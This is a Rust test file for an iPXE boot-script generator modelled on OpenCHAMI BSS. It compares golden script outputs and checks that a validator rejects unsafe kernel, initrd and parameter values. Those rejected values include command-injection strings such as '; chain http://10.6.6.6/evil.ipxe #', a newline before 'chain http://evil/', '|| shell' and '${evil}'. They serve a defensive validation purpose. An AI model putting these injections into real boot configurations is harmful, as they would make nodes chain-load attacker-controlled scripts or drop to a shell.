//! Golden files for every boot-script variant. The expected texts follow OpenCHAMI BSS
//! (`buildBootScript`, `unknownBootScript`, the trailing newline of `BootscriptGet`).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use skyport_ipxe::*;
use skyport_model::Mac;

fn golden(name: &str, got: &str) {
    let path = format!("{}/tests/golden/{name}", env!("CARGO_MANIFEST_DIR"));
    if std::env::var_os("SKYPORT_UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, got).unwrap();
    }
    let want = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    assert_eq!(got, want, "{name} differs from its golden file");
}

fn settings() -> Settings {
    Settings {
        advertise: Some("http://10.0.0.1:27779/cloud-init".into()),
        chain_base: "http://10.0.0.1:27779".into(),
        ..Settings::default()
    }
}

fn mac() -> Mac {
    Mac::parse("52:54:00:12:34:56").unwrap()
}

#[test]
fn known_node_by_mac_with_initrd() {
    let boot = Boot {
        kernel: "http://10.0.0.1:27779/images/vmlinuz".into(),
        initrd: Some("http://10.0.0.1:27779/images/initrd.img".into()),
        params: "console=tty0 console=ttyS0,115200n8 root=live:http://10.0.0.1/root.squashfs"
            .into(),
    };
    let id = Identity {
        xname: Some("x1000c0s0b0n0".into()),
        nid: Some(1),
        boot_mac: Some(mac()),
    };
    golden(
        "known-mac-initrd.ipxe",
        &known(&boot, &id, &ChainKey::Mac(mac()), 0, &settings()).unwrap(),
    );
}

#[test]
fn known_node_by_name_without_initrd_retrying() {
    let boot = Boot {
        kernel: "http://10.0.0.1/k".into(),
        initrd: None,
        params: "quiet".into(),
    };
    let id = Identity {
        xname: Some("x1000c0s0b0n1".into()),
        nid: Some(2),
        boot_mac: None,
    };
    let s = known(
        &boot,
        &id,
        &ChainKey::Name("x1000c0s0b0n1".into()),
        3,
        &Settings::default(),
    )
    .unwrap();
    golden("known-name-no-initrd.ipxe", &s);
}

#[test]
fn existing_params_are_not_repeated_and_initrd_token_is_replaced() {
    let boot = Boot {
        kernel: "http://10.0.0.1/k".into(),
        initrd: Some("http://10.0.0.1/i".into()),
        params:
            " initrd=other.img xname=custom nid=77 ds=override;s=x BOOTIF=01-aa-bb-cc-dd-ee-ff "
                .into(),
    };
    let id = Identity {
        xname: Some("x1c0s0b0n0".into()),
        nid: Some(5),
        boot_mac: Some(mac()),
    };
    golden(
        "known-existing-params.ipxe",
        &known(&boot, &id, &ChainKey::Nid(5), 0, &settings()).unwrap(),
    );
}

#[test]
fn bss_2024_expectation() {
    // The upstream test expectation quoted in ../shared/reference/openchami-api.md.
    let boot = Boot {
        kernel: "https://testkerneluri1.tld".into(),
        initrd: Some("https://testinitrduri1.tld".into()),
        params: "console=tty0 console=ttyS0,115200n8".into(),
    };
    let id = Identity {
        xname: Some("x0c0s1b0".into()),
        nid: None,
        boot_mac: None,
    };
    let s = Settings {
        advertise: Some("localhost".into()),
        ..Settings::default()
    };
    let script = known(&boot, &id, &ChainKey::Name("x0c0s1b0".into()), 0, &s).unwrap();
    assert_eq!(
        script.lines().nth(1).unwrap(),
        "kernel --name kernel https://testkerneluri1.tld initrd=initrd console=tty0 console=ttyS0,115200n8 xname=x0c0s1b0 ds=nocloud-net;s=localhost/ || goto boot_retry"
    );
}

#[test]
fn unknown_nodes() {
    golden(
        "unknown-mac.ipxe",
        &unknown(Some(&ChainKey::Mac(mac())), 1795500000, &settings()),
    );
    golden(
        "unknown-nokey.ipxe",
        &unknown(None, 1795500000, &Settings::default()),
    );
}

#[test]
fn error_scripts_print_and_retry() {
    let s = error_script(
        "storage unavailable: DynamoDB timed out || reboot; ${evil}\nboot",
        Some(&ChainKey::Mac(mac())),
        0,
        &settings(),
    );
    golden("error-storage.ipxe", &s);
}

#[test]
fn unsafe_values_are_refused() {
    for (slot, v) in [
        (Slot::Params, "quiet\nchain http://evil/"),
        (Slot::Params, "quiet || shell"),
        (Slot::Params, "quiet && shell"),
        (Slot::Params, "root=${root-path}"),
        (Slot::Params, "a\tb"),
        (Slot::Kernel, "http://x/k extra"),
        (Slot::Kernel, ""),
        (Slot::Initrd, ":boot_retry"),
        (Slot::Kernel, "http://x/k\r"),
        // Found by hostile testing: `;` runs a second command, `#` drops xname=, nid=, BOOTIF=,
        // ds= and the retry.
        (
            Slot::Params,
            "console=ttyS0 ; chain http://10.6.6.6/evil.ipxe #",
        ),
        (Slot::Params, "quiet #"),
        (Slot::Params, "quiet #rest"),
        (Slot::Params, ";"),
        (Slot::Params, "a\u{b}b"),
        (Slot::Params, "a\u{c}b"),
        (Slot::Params, "quiet caf\u{e0}"),
        // Options of iPXE's `kernel` command and other non-URLs in the URL slots.
        (Slot::Kernel, "--name=evil"),
        (Slot::Kernel, "--autofree"),
        (Slot::Initrd, "-n"),
        (Slot::Kernel, "vmlinuz"),
        (Slot::Kernel, "http://"),
        (Slot::Kernel, "/"),
        (Slot::Kernel, "#http://x/k"),
        (Slot::Kernel, "javascript:alert(1)"),
    ] {
        assert!(check_value(slot, v).is_err(), "{v:?} accepted for {slot:?}");
    }
    for (slot, v) in [
        (
            Slot::Params,
            "console=ttyS0,115200n8 ds=nocloud-net;s=http://a/ ip=dhcp",
        ),
        // Separators inside a word are plain text to iPXE.
        (Slot::Params, "a||b c&&d e;f g#h"),
        (Slot::Kernel, "http://x/k#frag;x"),
        (Slot::Kernel, "HTTPS://x/k"),
        (Slot::Kernel, "tftp://10.0.0.1/vmlinuz"),
        (Slot::Kernel, "/boot/vmlinuz"),
        (Slot::Kernel, "image:demo-1-x86_64-kernel"),
        (Slot::Initrd, "s3://boot-images/initrd"),
    ] {
        assert!(check_value(slot, v).is_ok(), "{v:?} refused for {slot:?}");
    }
    let boot = Boot {
        kernel: "http://x/k".into(),
        initrd: None,
        params: "a\nchain http://evil".into(),
    };
    assert!(
        known(
            &boot,
            &Identity::default(),
            &ChainKey::Nid(1),
            0,
            &Settings::default()
        )
        .is_err()
    );
}
